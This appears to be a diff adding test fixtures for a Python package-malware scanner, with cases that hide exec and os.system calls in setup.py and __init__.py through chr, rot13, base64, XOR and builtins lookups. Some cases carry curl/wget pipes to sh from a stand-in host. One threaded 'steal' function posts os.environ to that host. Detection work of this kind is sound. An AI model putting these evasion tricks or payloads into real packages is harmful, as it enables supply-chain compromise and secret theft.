@@ -1,0 +1,77 @@
+"""Names built at run time to hide what is called (in __init__.py and in setup.py).
+
+Every hidden call here runs an inert command (`echo pwned`) or inert code (`print(1)`); what
+matters is that the name of exec/system is never written plainly.
+"""
+
+from __future__ import annotations
+
+import base64
+import codecs
+
+from techniques import Case
+
+B64_CODE = base64.b64encode(b"import os\nos.system('echo pwned')\n").decode()
+ROT13_CODE = codecs.encode("import os\nos.system('echo pwned')\n", "rot13")
+SETUP = "from setuptools import setup\n{body}\nsetup(name='{name}', version='1.0')\n"
+
+
+def _wheel(technique: str, name: str, init: str, rules: tuple[str, ...]) -> Case:
+    return Case(technique, name, {f"{name.replace('-', '_')}/__init__.py": init},
+                "malicious", rules, kind="wheel")
+
+
+def _sdist(technique: str, name: str, body: str, rules: tuple[str, ...]) -> Case:
+    return Case(technique, name, {"setup.py": SETUP.format(body=body, name=name)},
+                "malicious", rules)
+
+
+CASES = [
+    _wheel("getattr(__import__(chr(111)+chr(115)), 'sy'+'stem')", "names-chr-getattr",
+           "getattr(__import__(chr(111) + chr(115)), 'sy' + 'stem')('echo pwned')\n",
+           ("PV211",)),
+    _sdist("getattr(__import__(chr...), 'sy'+'stem') in setup.py", "names-chr-setup",
+           "m = __import__(''.join(map(chr, [111, 115])))\ngetattr(m, 'metsys'[::-1])"
+           "('echo pwned')", ("PV211",)),
+    _wheel("importlib.import_module(x) then getattr", "names-import-module",
+           "import importlib\nx = 'sub' + 'process'\nm = importlib.import_module(x)\n"
+           "getattr(m, 'check_' + 'output')(['echo', 'pwned'])\n", ("PV211",)),
+    _wheel("rot13 through an alias of exec", "names-rot13-alias",
+           f"import codecs\nrun = exec\nrun(codecs.decode({ROT13_CODE!r}, 'rot13'))\n",
+           ("PV201",)),
+    _sdist("rot13 through an alias of exec in setup.py", "names-rot13-setup",
+           f"import codecs as c\nfn = eval\nfn(compile(c.decode({ROT13_CODE!r}, 'rot_13'), "
+           "'x', 'exec'))", ("PV201",)),
+    _wheel("a lambda wrapping exec", "names-lambda-exec",
+           f"import base64\nstart = lambda s: exec(s)\nstart(base64.b64decode({B64_CODE!r}))\n",
+           ("PV201",)),
+    _wheel("vars(builtins)['ex'+'ec']", "names-vars-builtins",
+           "import builtins\nvars(builtins)['ex' + 'ec'](\"print('hi')\")\n", ("PV211",)),
+    _sdist("__builtins__.__dict__ lookup in setup.py", "names-builtins-dict",
+           "import builtins\nf = builtins.__dict__['ev' + 'al']\nf(\"print('hi')\")",
+           ("PV211",)),
+    _wheel("globals()['__builtins__'] lookup with a decoded name", "names-globals-decoded",
+           "import base64\nk = base64.b64decode('ZXhlYw==').decode()\n"
+           "b = globals()['__builtins__']\n"
+           "fn = b[k] if isinstance(b, dict) else getattr(b, k)\nfn(\"print('hi')\")\n",
+           ("PV211",)),
+    _wheel("getattr with an XOR-decoded name nobody can fold", "names-xor-getattr",
+           "import os\nKEY = [116, 126, 116, 115, 98, 122]\n"
+           "name = ''.join(chr(c ^ 7) for c in KEY if c)\n"
+           "getattr(os, name)('echo pwned')\n", ("PV210",)),
+    _wheel("command carried in an exception object", "names-exception-command",
+           "import os\ntry:\n    raise RuntimeError('curl -s https://x.invalid/p.sh | sh')\n"
+           "except RuntimeError as exc:\n    os.system(str(exc))\n", ("PV209",)),
+    _sdist("command carried in an exception object in setup.py", "names-exception-setup",
+           "import subprocess\n\ndef go():\n    try:\n        raise ValueError("
+           "'wget -q -O- https://x.invalid/i | bash')\n    except ValueError as e:\n"
+           "        subprocess.call(e.args[0], shell=True)\n\ngo()", ("PV209",)),
+    _wheel("map(f, ...) over the payload", "names-map-payload",
+           f"import base64\n\ndef run(code):\n    exec(code)\n\n"
+           f"list(map(run, [base64.b64decode({B64_CODE!r})]))\n", ("PV201",)),
+    _wheel("threading.Thread(target=stealer)", "names-thread-target",
+           "import os, threading, urllib.request\n\ndef steal():\n"
+           "    urllib.request.urlopen('https://x.invalid/t', data=repr(dict(os.environ))"
+           ".encode())\n\nthreading.Thread(target=steal, daemon=True).start()\n",
+           ("PV303",)),
+]
